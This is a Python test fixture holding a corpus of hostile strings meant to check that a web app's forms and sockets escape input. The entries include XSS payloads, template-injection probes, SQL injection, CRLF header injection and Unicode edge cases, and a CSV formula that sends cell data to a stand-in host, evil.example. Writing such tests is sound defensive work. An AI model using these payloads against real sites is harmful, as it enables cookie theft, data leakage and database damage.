"""A corpus of hostile strings that every form and every socket of the app must survive.

Each entry is (id, text). The ids name the tests. ``TAG_MARKERS`` are the fragments that would
mean a payload turned into markup if they appeared unescaped in a page."""

HUGE = "A" * 100_000

HOSTILE_INPUTS: list[tuple[str, str]] = [
    ("script-tag", "<script>alert(1)</script>"),
    ("script-tag-mixed-case", "<ScRiPt src=//evil.example/x.js></sCrIpT>"),
    ("img-onerror", "<img src=x onerror=alert(1)>"),
    ("attribute-breakout-svg", '"><svg onload=alert(1)>'),
    ("attribute-breakout-single", "' onfocus='alert(1)' autofocus='"),
    ("attribute-breakout-double", '" onmouseover="alert(1)'),
    ("javascript-url", "javascript:alert(document.cookie)"),
    ("javascript-url-entity", "jav&#x09;ascript:alert(1)"),
    ("svg-script", "<svg><script>alert(1)</script></svg>"),
    ("iframe-srcdoc", "<iframe srcdoc='<script>alert(1)</script>'></iframe>"),
    ("markdown-link", "[x](javascript:alert(1))"),
    ("markdown-image", "![x](https://evil.example/pixel.png)"),
    ("django-template-variable", "{{7*7}} {{ settings.SECRET_KEY }}"),
    ("django-template-tag", "{% debug %}{% load static %}"),
    ("jinja-ssti", "${7*7} #{7*7} <%= 7*7 %>"),
    ("htmx-attributes", '<div hx-get="/admin/" hx-trigger="load">x</div>'),
    ("sql-drop-table", "'; DROP TABLE live_sessions_need;--"),
    ("sql-or-true", "' OR '1'='1"),
    ("null-byte", "before\x00after"),
    ("only-null-bytes", "\x00\x00\x00"),
    ("huge", HUGE),
    ("right-to-left-override", "harmless \u202etxt.exe"),
    ("zero-width", "zero\u200bwidth\u200c\u200djoiners\ufeff"),
    ("only-zero-width", "\u200b\u200c\u200d\u2060\ufeff"),
    ("emoji-zwj", "👩🏽‍💻 🏳️‍⚧️ 👨‍👩‍👧‍👦 🏳️‍🌈"),
    ("csv-formula", '=HYPERLINK("https://evil.example/?leak="&A1,"click me")'),
    ("csv-formula-cmd", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("crlf-header-injection", "line one\r\nSet-Cookie: evil=1\r\n\r\n<b>x</b>"),
    ("control-characters", "bell\x07 escape\x1b[31m backspace\x08 delete\x7f"),
    ("lone-surrogate-high", "half \ud800 a pair"),
    ("lone-surrogate-low", "\udfff trailing half"),
    ("combining-marks", "Z̸̢̛̹͎̟̥̤̲̺̬͊̒̈́͊̔͘a̷̧̛̯̯̬͓͍̫̋̈́̉̎̑͘l̶̛͓͍̻̩̈́̍̈́g̶̨̛̞̗͖̪̒͆͋͝o"),
    ("json-infinite-number", '{"type": "resume", "since": 1e400}'),
    ("json-deeply-nested", "[" * 1020 + "]" * 1020),
    # str.isdigit() is true for these, int() refuses them.
    ("superscript-digit", "\u00b2"),
    ("arabic-indic-digits", "\u0661\u0662"),
]

# Substrings that mean markup was injected if they appear in a page or fragment verbatim.
TAG_MARKERS = (
    "<script>alert",
    "<ScRiPt",
    "<img src=x",
    "<svg onload",
    "<svg><script",
    "<iframe srcdoc",
    '<div hx-get="/admin/"',
    '" onmouseover="alert',
    "' onfocus='alert",
)


def encoded(text: str) -> bytes:
    """``text`` as the bytes a broken client might send: lone surrogates as their (invalid)
    three-byte UTF-8 forms, which the test client would otherwise refuse to encode."""
    return text.encode("utf-8", "surrogatepass")
